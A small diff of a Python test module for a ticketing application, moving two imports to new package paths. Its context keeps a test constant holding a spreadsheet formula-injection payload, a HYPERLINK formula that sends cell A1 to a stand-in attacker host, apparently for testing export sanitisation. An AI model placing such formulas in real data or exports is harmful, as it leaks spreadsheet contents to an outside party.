@@ -15,8 +15,8 @@ from core.models import AuditLog
 from events import services
 from tests.factories import login, make_event, make_ticket_type, make_user, submit
 from tests.ticketing.booking_helpers import book, event_on_sale, outbox, person
-from ticketing import booking
-from ticketing.attendee_queries import Page
+from ticketing.attendees.queries import Page
+from ticketing.booking import bookings as booking
 
 EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"Klick")'
 
